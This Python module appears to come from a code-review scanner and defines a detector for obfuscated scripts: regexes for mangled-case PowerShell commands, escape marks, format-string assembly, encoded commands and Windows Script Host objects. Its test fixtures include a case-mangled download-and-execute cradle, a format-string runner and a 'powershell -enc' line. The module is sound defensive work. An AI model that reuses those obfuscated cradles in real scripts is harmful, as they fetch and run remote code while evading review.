"""A script written so that no search finds its words."""

import re
from collections.abc import Iterator

from hunkwise.code.model import Unit
from hunkwise.signals.interface import Example, Sighting, Signal
from hunkwise.signals.malice.whole_file import View, in_files

_KNOWN = re.compile(
    r"(?i)\b(?:new-object|invoke-expression|system\.net\.webclient|net\.webclient|downloadstring|downloadfile|start-process"
    r"|frombase64string|set-item|get-variable|webclient|servicepointmanager|createdirectory|headers\.add|defaultwebproxy"
    r"|credentialcache|encodedcommand|executionpolicy|windowstyle|noprofile|noninteractive|foreach-object)\b"
)
_TICKS = re.compile(r"(?i)\b(?=[a-z`-]{5,40}\b)[a-z]+(?:`[a-z]+){2,}|\b[a-z]{1,6}(?:\^[a-z]{1,4}){3,}|\bs\^?e\^?t\b.{0,40}%\w+:~\d+,\d+%")
_FORMAT = re.compile(r"[\"']?\((?:[\"'])(?:\{\d+\}){3,}[\"']\s*-f|\"(?:\{\d+\}){3,}\"\s*-[fF]\s*['\"]")
_ENCODED = re.compile(r"(?i)powershell(?:\.exe)?[\s\"',\]]+(?:[^\n]{0,160}?)-e(?:nc(?:odedcommand)?|c)?[\s\"',]+[A-Za-z0-9+/=]{40,}")
_JOINED = re.compile(r"(?:['\"][\w.:/\\-]{0,12}['\"]\s*\+\s*){6,}['\"]")
_CHARS = re.compile(
    r"(?i)(?:\[char\]\s*\(?(?:0x[0-9a-f]+|\d+)\)?\s*\+?\s*){3,}|\[char\[\]\]\s*\(?\s*\d+\s*,\s*\d+"
    r"|-join\s*\(+[^)\n]{0,400}?\[?char|-split[^\n]{0,80}\[char\]|\(\s*\d+(?:\s*,\s*\d+){2,}\s*\)\s*\|\s*(?:foreach-object"
    r"|%)"
)
_RUNNER = re.compile(
    r"(?i)\.\s*\(\s*\$(?:env:comspec|pshome|shellid|verbosepreference)\S{0,30}\[|&\s*\(\s*\$\w+\[\d+\]"
    r"|\(\s*gal\s+i\*x|&\s*\(\s*['\"]i['\"]\s*\+\s*['\"]e"
    r"|getattr\(\s*(?:__import__\(|builtins|__builtins__)[^\n]{0,80}(?:\[::-1\]|\+|\\x|chr\()|globals\(\)\[[^\]]{0,60}(?:\\x"
    r"|\+|chr\()|__builtins__\.__dict__\[|(?:window|global|globalThis|this)\[\s*['\"]\w{1,5}['\"]\s*\+\s*['\"]"
)
_ALIAS = re.compile(r"(?im)(?:^|[;|{(])\s*(?:sal|set-alias|new-alias)\s+\w+\s+(?:\$\w|['\"]?i(?:ex|nvoke))")
_DESKTOP = re.compile(r"\bWScript\b|/\*@cc_on|ActiveXObject")
_CRUMB = re.compile(r"(?:=|\[|\(|\+|,)\s*(['\"])[^'\"\n]{1,4}\1")
_LITERAL = re.compile(r"\bexec\(\s*[rbuf]?(['\"]{1,3})(?=[^\n]{200,})[^\n]{0,80}?\bimport\b[^\n]{0,400}")
_SCRIPT_HOST = re.compile(
    r"(?i)(?:W['\"]\s*\+\s*['\"]?Scri|['\"]WScri?p?['\"]\s*\+|['\"]\s*\+\s*['\"]?Shell['\"]|ADO['\"]\s*\+"
    r"|['\"]MSXML2\.XMLHTTP|['\"]Scripting\.FileSystemObject['\"]|ActiveXObject|WScript\.CreateObject|WScript\[)"
)


def _look(unit: Unit, view: View) -> Iterator[Sighting]:
    text = view.text
    if unit.language in ("powershell", "batch", "python", "javascript", "shell"):
        mangled = [found for found in _KNOWN.finditer(text) if _zigzag(found[0])]
        if len(mangled) >= 2:
            yield _told(view, mangled[0], "commands in mangled case", 0.9)
            return
    if unit.language in ("powershell", "batch"):
        for pattern, what, strength in (
            (_TICKS, "escape marks inside of words", 0.8),
            (_FORMAT, "words put together by numbers", 0.9),
            (_RUNNER, "a runner spelt out of parts", 0.9),
            (_ALIAS, "a runner under another name", 0.7),
            (_CHARS, "text spelt out as character numbers", 0.7),
        ):
            if found := pattern.search(text):
                yield _told(view, found, what, strength)
                return
        if (found := _JOINED.search(text)) and len(_JOINED.findall(text)) >= 2:
            yield _told(view, found, "text put together from crumbs", 0.7)
            return
    elif unit.language in ("python", "javascript", "php") and (found := _RUNNER.search(text)):
        yield _told(view, found, "a runner spelt out of parts", 0.8)
    if found := _ENCODED.search(text):
        yield _told(view, found, "an encoded command", 0.9)
    elif unit.language == "python" and (found := _LITERAL.search(text)):
        yield _told(view, found, "a program inside of one text", 0.8)
    elif unit.language == "javascript" and _desktop(view) and (found := _DESKTOP.search(text)):
        yield _told(view, found, "the script host of the desktop", 0.8)
    elif unit.language in ("javascript", "html") and len(found_all := list(_SCRIPT_HOST.finditer(text))) >= 2:
        yield _told(view, found_all[0], "the script host of the desktop, reached by parts of names", 0.7)


def _desktop(view: View) -> bool:
    """Whether a script for the desktop's script host is built from crumbs of text, or evaluates and fetches."""
    if not _DESKTOP.search(view.text):
        return False
    crumbs = len(_CRUMB.findall(view.text[:60_000]))
    return crumbs >= 12 or bool(re.search(r"(?i)xmlhttp|\beval\b|adodb|\.run\b|createobject|saveto", view.text))


def _zigzag(word: str) -> bool:
    """Whether the case of a word changes as nobody writes it."""
    letters = [character for character in word if character.isalpha()]
    turns = sum(a.islower() and b.isupper() for a, b in zip(letters, letters[1:], strict=False))
    return turns >= 3 and turns / len(letters) > 0.17


def _told(view: View, found: re.Match[str], what: str, strength: float) -> Sighting:
    return Sighting((view.line(found.start()),), {"what": what, "expression": " ".join(found[0].split())[:80]}, strength=strength)


_see = in_files(_look)


SIGNAL = Signal(
    id="obfuscated-script",
    title="A script whose words are hidden",
    kind="payload",
    category="malicious-code",
    severity="high",
    languages=frozenset({"powershell", "batch", "shell", "javascript", "python", "html", "php"}),
    promise=(
        "Tells of commands in mangled case, with escape marks inside, put together from pieces or encoded, and of a "
        "runner spelt out of parts."
    ),
    why="Whoever writes `iNvOkE-eXpReSsIoN` hides from those who look for it.",
    quiet="Usual spellings, even careless ones.",
    remedy="Decode it apart and read it; take the plain source or nothing.",
    cause="{what}: `{expression}`.",
    since="0.2",
    maturity="stable",
    cwe="CWE-506",
    tactic="T1027",
    everywhere=True,
    see=_see,
    fires=(
        Example("powershell", '$c = nEW-oBjECt sYsTeM.NeT.wEbClIEnT\niex $c.dOwNLoAdStRInG("https://example.org/a")\n', line=1),
        Example("powershell", "& (\"{2}{0}{1}\" -f 'vok','e-x','in') \"x\"\n", line=1),
        Example(
            "python",
            "import subprocess\n"
            'subprocess.run("powershell -w hidden -enc " + "A" * 3)\n'
            'subprocess.run("powershell -enc SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0ACAAZQB4AGEA")\n',
            line=3,
        ),
    ),
    stays_quiet=(
        Example("powershell", '$c = New-Object System.Net.WebClient\n$c.DownloadString("https://example.org/a") | Out-File a.txt\n'),
        Example("powershell", '$c = new-object system.net.webclient\nwrite-host ("{0} of {1}" -f $a, $b)\n'),
    ),
)
